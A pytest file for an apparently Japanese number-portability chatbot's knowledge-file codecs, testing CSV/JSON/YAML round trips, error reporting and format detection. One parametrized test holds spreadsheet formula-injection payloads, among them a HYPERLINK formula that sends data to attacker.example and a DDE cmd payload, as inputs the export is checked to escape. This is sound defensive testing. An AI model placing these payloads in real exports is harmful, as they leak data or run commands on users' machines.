"""The knowledge file codecs (pure): round trips, CSV cells, and problems that name the row, key and field."""

import csv
import io
import json
from pathlib import PurePath
from typing import Any

import pytest

from mnp_chatbot.knowledge import formats, loader
from mnp_chatbot.knowledge.formats import Format, KnowledgeFileInvalid
from mnp_chatbot.knowledge.schemas import CarrierDocument, FaqDocument

ENTRY: dict[str, Any] = {
    "slug": "sample-entry",
    "category": "fees",
    "question": "サンプルの質問ですか？",
    "alternates": ["言い換えその1", "言い換えその2"],
    "answer": "サンプルの回答です。",
    "sources": [{"title": "出典", "url": "https://example.jp/"}],
    "as_of": "2026-11-29",
    "verification": "official",
}
CELLS = {
    "slug": "sample-entry",
    "category": "fees",
    "question": "サンプルの質問ですか？",
    "alternates": "言い換えその1\n言い換えその2",
    "answer": "サンプルの回答です。",
    "sources": '[{"title": "出典"}]',
    "as_of": "2026-11-29",
    "verification": "official",
}


def csv_row(**cells: str) -> bytes:
    values = CELLS | cells
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(list(values))
    writer.writerow(list(values.values()))
    return buffer.getvalue().encode()


def problems(
    data: bytes, fmt: Format, model: type[Any] = FaqDocument
) -> list[tuple[int, str | None, str | None]]:
    with pytest.raises(KnowledgeFileInvalid) as caught:
        formats.parse(data, fmt, model)
    return [(p.row, p.key, p.field) for p in caught.value.problems]


class TestRoundTrip:
    @pytest.mark.parametrize("fmt", list(Format))
    def test_every_shipped_faq_reads_back_unchanged(self, fmt: Format) -> None:
        documents = loader.load_faqs()
        assert formats.parse(formats.dump(documents, fmt, FaqDocument), fmt, FaqDocument) == documents

    @pytest.mark.parametrize("fmt", list(Format))
    def test_every_shipped_carrier_reads_back_unchanged(self, fmt: Format) -> None:
        documents = loader.load_carriers()
        assert formats.parse(formats.dump(documents, fmt, CarrierDocument), fmt, CarrierDocument) == documents

    @pytest.mark.parametrize("fmt", list(Format))
    @pytest.mark.parametrize("model", [FaqDocument, CarrierDocument])
    def test_a_file_in_the_camel_case_of_the_api_reads_the_same(self, fmt: Format, model: type[Any]) -> None:
        documents = loader.load_faqs() if model is FaqDocument else loader.load_carriers()
        exported = formats.dump(documents, fmt, model)
        camel = [document.model_dump(mode="json", by_alias=True, exclude_none=True) for document in documents]
        if fmt is Format.CSV:
            header, _, rest = exported.decode("utf-8-sig").partition("\r\n")
            assert "as_of" in header.split(",")
            aliases = {name: info.alias or name for name, info in model.model_fields.items()}
            camel_csv = ",".join(aliases[name] for name in header.split(",")) + "\r\n" + rest
            assert formats.parse(camel_csv.encode(), fmt, model) == documents
        else:
            assert b"as_of" in exported
            assert formats.parse(json.dumps(camel, ensure_ascii=False).encode(), fmt, model) == documents

    def test_yaml_export_loads_like_a_curated_file(self, tmp_path: Any) -> None:
        documents = loader.load_faqs()[:5]
        (tmp_path / "10_sample.yaml").write_bytes(formats.dump(documents, Format.YAML, FaqDocument))
        assert loader.load_faqs(tmp_path) == documents

    def test_csv_starts_with_a_bom_and_keeps_japanese_readable(self) -> None:
        data = formats.dump([FaqDocument.model_validate(ENTRY)], Format.CSV, FaqDocument)
        assert data.startswith("\ufeff".encode())
        assert "サンプルの回答です。" in data.decode("utf-8-sig")


class TestCsvCells:
    @pytest.mark.parametrize(
        "fields",
        [
            {"question": '=HYPERLINK("https://attacker.example/?"&A1,"詳しくはこちら")'},
            {"answer": "+1+cmd|' /C calc'!A0"},
            {"answer": "-2+3 が手数料です。"},
            {"alternates": ["@SUM(1+1)*cmd", "言い換えその2"]},
            {"answer": "\t=1+1 タブで始まる回答"},
            {"answer": "\r=1+1 CRで始まる回答"},
            {"answer": "'=1+1 引用符で始まる回答"},
            {"keywords": ["=1+1"]},
        ],
    )
    def test_item16_csv_export_escapes_cells_a_spreadsheet_would_run(self, fields: dict[str, Any]) -> None:
        document = FaqDocument.model_validate(ENTRY | fields)
        data = formats.dump([document], Format.CSV, FaqDocument)
        _, row = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        assert [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
        assert formats.parse(data, Format.CSV, FaqDocument) == [document]

    @pytest.mark.parametrize(
        ("cell", "expected"),
        [
            ("言い換えその1\n言い換えその2", ["言い換えその1", "言い換えその2"]),
            ("  言い換えその1  \n\n言い換えその2\n", ["言い換えその1", "言い換えその2"]),
            ("言い換えその1\r\n言い換えその2", ["言い換えその1", "言い換えその2"]),
            ('["JSONの配列1", "JSONの配列2"]', ["JSONの配列1", "JSONの配列2"]),
        ],
    )
    def test_a_list_cell_holds_one_item_per_line_or_a_json_array(
        self, cell: str, expected: list[str]
    ) -> None:
        (document,) = formats.parse(csv_row(alternates=cell), Format.CSV, FaqDocument)
        assert document.alternates == expected

    def test_empty_optional_cells_take_the_defaults(self) -> None:
        data = csv_row(keywords="", official_url="")
        (document,) = formats.parse(data, Format.CSV, FaqDocument)
        assert document.keywords == []
        assert document.official_url is None

    @pytest.mark.parametrize(
        ("cells", "field"),
        [
            ({"sources": '[{"title": }]'}, "sources"),
            ({"alternates": "ひとつだけ"}, "alternates"),
            ({"as_of": "昨日"}, "as_of"),
            ({"category": "雑談"}, "category"),
            ({"verification": "secondary"}, "official_url"),
            ({"sources": ""}, "sources"),
        ],
    )
    def test_a_bad_cell_is_reported_with_its_row_and_field(self, cells: dict[str, str], field: str) -> None:
        assert problems(csv_row(**cells), Format.CSV) == [(1, "sample-entry", field)]

    def test_an_unknown_column_is_named(self) -> None:
        data = csv_row(memo="x")
        assert problems(data, Format.CSV) == [(1, "sample-entry", "memo")]


class TestProblems:
    def test_duplicate_slugs_point_at_the_later_row(self) -> None:
        data = formats.dump([FaqDocument.model_validate(ENTRY)] * 3, Format.JSON, FaqDocument)
        assert problems(data, Format.JSON) == [(2, "sample-entry", "slug"), (3, "sample-entry", "slug")]

    def test_every_invalid_entry_is_listed(self) -> None:
        broken = [ENTRY, ENTRY | {"slug": "bb", "alternates": []}, ENTRY | {"slug": "cc", "answer": " "}]
        data = json.dumps(broken, ensure_ascii=False).encode()
        assert problems(data, Format.JSON) == [(2, "bb", "alternates"), (3, "cc", "answer")]

    @pytest.mark.parametrize(
        ("data", "fmt"),
        [
            (b"- [", Format.YAML),
            (b"{", Format.JSON),
            (b'{"slug": "x"}', Format.JSON),
            (b"\xff\xfe", Format.CSV),
        ],
    )
    def test_an_unreadable_file_is_one_problem_of_row_zero(self, data: bytes, fmt: Format) -> None:
        assert problems(data, fmt) == [(0, None, None)]

    @pytest.mark.parametrize(
        ("changes", "field"),
        [
            ({"answer": "回答\x00"}, "answer"),
            ({"keywords": ["ok", "\x1b[31m"]}, "keywords.1"),
            ({"sources": [{"title": "\ud83d"}]}, "sources.0.title"),
        ],
    )
    def test_unstorable_text_is_a_problem(self, changes: dict[str, Any], field: str) -> None:
        data = json.dumps([ENTRY | changes]).encode()
        assert problems(data, Format.JSON) == [(1, "sample-entry", field)]

    @pytest.mark.parametrize("text", ["改行\nと\tタブ\r\nは使えます", "絵文字👍も"])
    def test_line_breaks_tabs_and_emoji_are_storable(self, text: str) -> None:
        assert formats.unstorable({"answer": text, "alternates": [text]}) == []

    def test_an_empty_file_has_no_entries(self) -> None:
        assert formats.parse(b"", Format.YAML, FaqDocument) == []

    @pytest.mark.parametrize(
        ("message", "field"),
        [
            ("mnp-x: an unverified fact needs official_url", "official_url"),
            ("source-faq: a fact needs at least one source", "sources"),
            ("something else entirely", None),
        ],
    )
    def test_cross_field_rules_name_their_field(self, message: str, field: str | None) -> None:
        assert formats.field_named_in(message, FaqDocument) == field

    def test_a_problem_reads_as_a_sentence(self) -> None:
        problem = formats.Problem(3, "mnp-x", "alternates", "List should have at least 2 items")
        assert str(problem) == "3件目 (mnp-x): alternates: List should have at least 2 items"


class TestFormatNames:
    @pytest.mark.parametrize(
        ("name", "fmt"),
        [
            ("faqs.yaml", Format.YAML),
            ("FAQS.YML", Format.YAML),
            ("a.json", Format.JSON),
            ("b.csv", Format.CSV),
        ],
    )
    def test_the_extension_names_the_format(self, name: str, fmt: Format) -> None:
        assert Format.of_path(PurePath(name)) is fmt

    @pytest.mark.parametrize("name", ["faqs.txt", "faqs", "faqs.xlsx"])
    def test_other_extensions_are_refused(self, name: str) -> None:
        with pytest.raises(formats.UnknownFormat):
            Format.of_path(PurePath(name))

    @pytest.mark.parametrize(
        ("content_type", "fmt"),
        [
            ("application/yaml", Format.YAML),
            ("text/yaml; charset=utf-8", Format.YAML),
            ("application/json", Format.JSON),
            ("Text/CSV; charset=UTF-8", Format.CSV),
            ("text/plain", None),
            (None, None),
        ],
    )
    def test_the_content_type_names_the_format(self, content_type: str | None, fmt: Format | None) -> None:
        assert formats.format_of_media_type(content_type) is fmt
